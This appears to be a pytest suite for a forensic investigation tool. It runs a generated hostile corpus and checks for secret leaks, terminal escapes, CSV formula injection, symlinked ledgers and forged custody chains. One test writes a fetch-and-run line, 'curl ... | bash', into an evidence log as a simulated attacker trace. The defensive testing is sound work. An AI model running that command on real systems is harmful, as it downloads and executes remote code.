"""The hostile corpus: every case of ``corpus.yaml`` run through the real code paths, every expected outcome asserted.

The corpus is generated once per session by ``generate.py`` into a temporary folder (see its docstring for why it
is not committed). Analyses run through :meth:`workbench.investigation.Investigation.open` with outputs written
(findings.json, timeline.jsonl, comms, the ledger are then read back), bombs and hangs in a child process
(``run_case.py``: peak memory measured, a timeout as hang guard), and the CLI commands the issue names in
subprocesses. Entries marked ``xfail`` in the manifest (issue 12: model scanning ahead of every scanner, not built
yet) are strict: the day they pass, CI says so.
"""

from __future__ import annotations

import csv
import importlib.util
import json
import os
import re
import shutil
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from workbench import custody
from workbench.case import Case
from workbench.errors import WorkbenchError
from workbench.investigation import Investigation
from workbench.records import Severity

HERE = Path(__file__).resolve().parent
MANIFEST: list[dict[str, Any]] = yaml.safe_load((HERE / "corpus.yaml").read_text(encoding="utf-8"))["cases"]
#: hang guard of a child run (not a speed assertion: a bounded run takes seconds)
CHILD_TIMEOUT = 300
_spec = importlib.util.spec_from_file_location("hostile_generate", HERE / "generate.py")
generate = importlib.util.module_from_spec(_spec)
_spec.loader.exec_module(generate)
#: a raw terminal control: ESC, CSI, OSC, BEL (evidence text must reach a terminal made visible, never raw)
_RAW_CONTROL = re.compile("[\x1b\x9b\x9d\x07]")


def _entry_id(entry: dict[str, Any]) -> str:
    return entry["case"] + (f":{entry['file']}" if "file" in entry else "")


def _params():
    for entry in MANIFEST:
        marks = []
        if entry.get("xfail"):
            marks.append(pytest.mark.xfail(strict=True, reason=f"issue {entry['xfail']}: {entry['class']}"))
        yield pytest.param(entry, id=_entry_id(entry), marks=marks)


@dataclass
class Run:
    """What a run left: the findings document, the output folder, the child's peak memory."""

    doc: dict[str, Any]
    out: Path
    peak_mib: float | None = None


@pytest.fixture(scope="session")
def corpus(tmp_path_factory) -> dict[str, Path]:
    return generate.generate(tmp_path_factory.mktemp("hostile") / "corpus")


@pytest.fixture(scope="session")
def run_cache() -> dict[str, Run]:
    return {}


def _investigate(case: Path, out: Path) -> Run:
    Investigation.open(case, out)
    return Run(json.loads((out / "findings.json").read_text(encoding="utf-8")), out)


def _child(case: Path, out: Path, *extra: str) -> Run:
    proc = subprocess.run(
        [sys.executable, str(HERE / "run_case.py"), str(case), str(out), *extra],
        capture_output=True, text=True, timeout=CHILD_TIMEOUT, check=False,
        env={**os.environ, "OPENBLAS_NUM_THREADS": "1"},
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr[-3000:]
    report = json.loads(proc.stdout.strip().splitlines()[-1])
    assert report["error"] is None, report["error"]
    return Run(json.loads((out / "findings.json").read_text(encoding="utf-8")), out, report["peak_rss_mib"])


def _run(entry: dict[str, Any], corpus: dict[str, Path], cache: dict[str, Run], tmp: Path, monkeypatch) -> Run:
    case = corpus[entry["case"]]
    kind = entry["run"]
    if kind == "investigate":
        if entry["case"] not in cache:
            cache[entry["case"]] = _investigate(case, tmp / "out")
        return cache[entry["case"]]
    if kind == "isolated":
        return _child(case, tmp / "out")
    if kind == "fifo":
        work = tmp / "case"
        shutil.copytree(case, work)
        return _child(work, tmp / "out", "--fifo", entry["swap"])
    if kind == "capped":
        import workbench.evidence_tree as tree

        monkeypatch.setattr(tree, "MAX_FILES", entry["cap"])
        return _investigate(case, tmp / "out")
    raise AssertionError(f"no runner for {kind}")


# ---------------------------------------------------------------------------------------------------- checks
def _text(finding: dict[str, Any]) -> str:
    return " ".join((finding["title"], finding["detail"], json.dumps(finding["evidence"], ensure_ascii=False)))


def _check_finding(doc: dict[str, Any], want: dict[str, Any]) -> None:
    categories = want["category"] if isinstance(want["category"], list) else [want["category"]]
    floor = Severity(want["severity"]).rank
    hits = [f for f in doc["findings"] if f["category"] in categories and Severity(f["severity"]).rank >= floor]
    if "mentions" in want:
        hits = [f for f in hits if want["mentions"] in _text(f)]
    shown = [(f["category"], f["severity"], f["title"][:90]) for f in doc["findings"]]
    assert hits, f"no {categories} finding of at least {want['severity']} mentioning {want.get('mentions')}: {shown}"


def _unexamined(doc: dict[str, Any]) -> list[str]:
    return [u for c in doc["conclusions"]["coverage"].values() for u in c.get("unexamined", [])]


def _warnings(doc: dict[str, Any]) -> list[str]:
    return [f"{w.get('path')}:{w.get('line')}: {w.get('reason')}" for w in doc["warnings"]]


def _outputs(out: Path) -> dict[str, bytes]:
    files = [out / "findings.json", out / "timeline.jsonl", out / custody.LEDGER_NAME, *sorted(out.glob("comms/*.md"))]
    return {p.name: p.read_bytes() for p in files if p.is_file()}


def _strings(value: Any):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for k, v in value.items():
            yield from _strings(k)
            yield from _strings(v)
    elif isinstance(value, list):
        for v in value:
            yield from _strings(v)


def _check_unicode(out: Path) -> None:
    """Every output decodes as strict UTF-8, and no JSON string in it holds a lone surrogate (even escaped)."""
    for name, data in _outputs(out).items():
        text = data.decode("utf-8")  # strict: raises on invalid UTF-8
        docs = [json.loads(text)] if name.endswith(".json") else []
        docs += [json.loads(line) for line in text.splitlines() if name.endswith(".jsonl") and line.strip()]
        for s in (s for doc in docs for s in _strings(doc)):
            try:
                s.encode("utf-8")
            except UnicodeEncodeError:
                raise AssertionError(f"{name} carries a lone surrogate in {s[:80]!r}") from None


def _secrets_in(data: str) -> list[str]:
    return [kind for kind, secret in generate.SECRETS.items() if secret in data]


def _cli(args: list[str], case: Path, out: Path, tmp: Path) -> subprocess.CompletedProcess:
    values = {"case": str(case), "out": str(out), "tmp": str(tmp)}
    argv = [a.format(**values) for a in args]
    return subprocess.run(
        [sys.executable, "-m", "workbench", *argv], capture_output=True, timeout=CHILD_TIMEOUT, check=False,
        env={**os.environ, "OPENBLAS_NUM_THREADS": "1"},
    )  # fmt: skip


def _run_clis(specs: list[dict[str, Any]], case: Path, run: Run, tmp: Path) -> None:
    """Run the entry's CLI commands two at a time (those that edit the evidence first go last, alone)."""
    plain = [s for s in specs if not s.get("after_edit")]
    with ThreadPoolExecutor(max_workers=2) as pool:
        procs = list(pool.map(lambda spec: _cli(spec["args"], case, run.out, tmp), plain))
    for spec, proc in zip(plain, procs, strict=True):
        _check_cli(spec, proc, tmp)
    for spec in (s for s in specs if s.get("after_edit")):
        victim = next(p for p in sorted((case / "logs").iterdir()) if p.is_file())
        with victim.open("ab") as fh:  # an evidence file whose name carries the hostile text changes after the run
            fh.write(b"appended after intake\n")
        _check_cli(spec, _cli(spec["args"], case, run.out, tmp), tmp)


def _check_cli(spec: dict[str, Any], proc: subprocess.CompletedProcess, tmp: Path) -> None:
    stdout = proc.stdout.decode("utf-8", "surrogateescape")
    stderr = proc.stderr.decode("utf-8", "surrogateescape")
    where = f"workbench {' '.join(spec['args'])}"
    assert proc.returncode in spec.get("exit", [0]), f"{where}: exit {proc.returncode}\n{stderr[-2000:]}"
    if spec.get("no_traceback"):
        assert "Traceback (most recent call last)" not in stderr, f"{where}:\n{stderr[-3000:]}"
    for what in spec.get("stdout_lacks", []):
        if what == "secrets":
            assert not _secrets_in(stdout + stderr), f"{where} prints secrets {_secrets_in(stdout + stderr)}"
        elif what == "escapes":
            raw = sorted({repr(c) for c in _RAW_CONTROL.findall(stdout + stderr)})
            assert not raw, f"{where} prints raw terminal controls {raw}"
        else:
            assert what not in stdout, f"{where} prints {what!r}"
    if spec.get("csv_safe"):
        table = next(Path(a.format(tmp=str(tmp))) for a in spec["args"] if a.endswith(".csv"))
        rows = list(csv.reader(table.open(encoding="utf-8", newline="")))
        risky = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert rows and not risky, f"formula cells left live: {risky}"


def check(entry: dict[str, Any], run: Run, corpus: dict[str, Path], tmp: Path) -> None:
    """Assert every outcome ``entry`` expects of ``run``."""
    expect, doc = entry["expect"], run.doc
    if "finding" in expect:
        _check_finding(doc, expect["finding"])
    if "verdict_not" in expect:
        assert doc["verdict"] != expect["verdict_not"], f"verdict {doc['verdict']}; findings: {len(doc['findings'])}"
    for section in expect.get("partial", []):
        coverage = doc["conclusions"]["coverage"][section]
        assert coverage["status"] == "partial", f"{section}: {coverage}"
    if "unexamined_mentions" in expect:
        listed = _unexamined(doc)
        assert any(expect["unexamined_mentions"] in u for u in listed), listed
    if "warning" in expect:
        assert any(expect["warning"] in w for w in _warnings(doc)), _warnings(doc)
    if "mentioned" in expect:
        said = _warnings(doc) + _unexamined(doc)
        assert any(expect["mentioned"] in s for s in said), said
    if expect.get("no_crash"):
        assert doc["analysis_errors"] == {}, doc["analysis_errors"]
        _check_unicode(run.out)
    if "peak_memory_mib" in expect:
        assert run.peak_mib is not None and run.peak_mib < expect["peak_memory_mib"], f"peak {run.peak_mib} MiB"
    if expect.get("outputs_lack_secrets"):
        leaks = {n: _secrets_in(d.decode("utf-8", "replace")) for n, d in _outputs(run.out).items()}
        assert not any(leaks.values()), {n: k for n, k in leaks.items() if k}
    if expect.get("cli"):
        _run_clis(expect["cli"], corpus[entry["case"]], run, tmp)


# ---------------------------------------------------------------------------------------------------- tests
def test_the_generator_writes_exactly_the_cases_of_the_manifest(corpus):
    assert set(corpus) == {e["case"] for e in MANIFEST}
    scanning = corpus["model-scanning"] / "models" / "suspect" / "m12"
    listed = {e["file"] for e in MANIFEST if e["case"] == "model-scanning"}
    optional = {"lambda.h5", "traversal.7z"}  # written only where h5py / py7zr are installed
    assert listed - optional <= {p.name for p in scanning.iterdir()} <= listed


_PROCEDURES = {"atime", "ledger_symlink", "rechained"}


@pytest.mark.parametrize("entry", [p for p in _params() if p.values[0]["run"] not in _PROCEDURES])
def test_expected_outcome(entry, corpus, run_cache, tmp_path, monkeypatch):
    if "file" in entry:
        path = corpus[entry["case"]] / "models" / "suspect" / "m12" / entry["file"]
        if not path.exists():
            pytest.skip(f"{entry['file']} needs a writer library that is not installed")
    check(entry, _run(entry, corpus, run_cache, tmp_path, monkeypatch), corpus, tmp_path)


def _entry(case: str) -> dict[str, Any]:
    return next(e for e in MANIFEST if e["case"] == case)


def test_reading_evidence_changes_no_access_time(corpus, tmp_path):
    """Issue 11 "evidence touched": access times set in the past (before mtime, so that relatime would update
    them on any read) are the same after a whole run; contents, mtime and mode too."""
    case = tmp_path / "case"
    shutil.copytree(corpus["untouched"], case)
    before = {}
    for path in sorted(p for p in case.rglob("*") if p.is_file()):
        content, mtime = path.read_bytes(), path.stat().st_mtime_ns
        os.utime(path, ns=(mtime - 3 * 86400 * 10**9, mtime))
        st = path.stat()
        before[path] = (st.st_atime_ns, st.st_mtime_ns, st.st_mode, content)
    run = _investigate(case, tmp_path / "out")
    check(_entry("untouched"), run, corpus, tmp_path)
    changed = []
    for path, (atime, mtime, mode, content) in before.items():
        st = path.stat()
        if (st.st_atime_ns, st.st_mtime_ns, st.st_mode) != (atime, mtime, mode) or path.read_bytes() != content:
            changed.append(f"{path.relative_to(case)}: atime {atime} -> {st.st_atime_ns}")
    assert not changed, changed


def test_a_symlinked_ledger_is_never_followed(corpus, tmp_path):
    """Issue 11 "custody": a custody.jsonl that is a symlink to a real ledger outside the output folder is refused,
    and neither that ledger nor a dangling link's target is written."""
    case = corpus["ledger-symlink"]
    custody.intake(Case.open(case), tmp_path / "first")
    outside = tmp_path / "elsewhere" / "ledger.jsonl"
    outside.parent.mkdir()
    shutil.move(tmp_path / "first" / custody.LEDGER_NAME, outside)
    snapshot = (outside.read_bytes(), outside.stat().st_mtime_ns)
    out = tmp_path / "out"
    out.mkdir()
    (out / custody.LEDGER_NAME).symlink_to(outside)
    with pytest.raises(WorkbenchError):
        Investigation.open(case, out)
    assert (outside.read_bytes(), outside.stat().st_mtime_ns) == snapshot
    dangling = tmp_path / "out2"
    dangling.mkdir()
    (dangling / custody.LEDGER_NAME).symlink_to(tmp_path / "elsewhere" / "new.jsonl")
    with pytest.raises(WorkbenchError):
        custody.intake(Case.open(case), dangling)
    assert not (tmp_path / "elsewhere" / "new.jsonl").exists()


def test_a_recomputed_chain_fails_custody_verify(corpus, tmp_path):
    """Issue 11 "custody": evidence edited and the whole ledger rebuilt by the attacker; the head recorded in the
    run's findings.json no longer matches, and ``custody verify`` says so (non-zero exit)."""
    case = tmp_path / "case"
    shutil.copytree(corpus["rechained-ledger"], case)
    out = tmp_path / "out"
    _investigate(case, out)
    with (case / "logs" / "build.log").open("ab") as fh:
        fh.write(b"2026-11-03T10:30:00Z curl -sSL http://203.0.113.7/p.sh | bash\n")
    custody.intake(Case.open(case), tmp_path / "forged")
    shutil.copy(tmp_path / "forged" / custody.LEDGER_NAME, out / custody.LEDGER_NAME)
    proc = _cli(["custody", "verify", "{out}"], case, out, tmp_path)
    assert proc.returncode not in (0, 2), (proc.returncode, proc.stdout[-1000:], proc.stderr[-1000:])
